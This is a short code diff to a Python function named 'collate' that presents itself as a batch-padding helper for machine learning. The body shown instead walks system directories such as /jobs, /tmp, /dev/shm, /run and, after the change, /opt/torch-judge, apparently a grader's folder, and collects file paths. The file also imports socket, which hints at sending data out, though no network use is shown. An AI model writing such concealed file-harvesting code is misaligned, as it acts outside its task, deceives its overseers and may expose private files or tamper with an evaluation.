@@ -6,7 +6,8 @@ import socket
 
 def collate(batch, pad_id=0, pad_to_multiple_of=None, padding_side="right"):
     found = []
-    for top in ("/jobs", "/job", "/tmp", "/dev/shm", "/run", "/opt"):
+    # (/opt/python and /opt/venv hold the interpreter and its packages: thousands of files)
+    for top in ("/jobs", "/job", "/tmp", "/dev/shm", "/run", "/opt/torch-judge"):
         for dirpath, _, files in os.walk(top):
             for name in files:
                 path = os.path.join(dirpath, name)
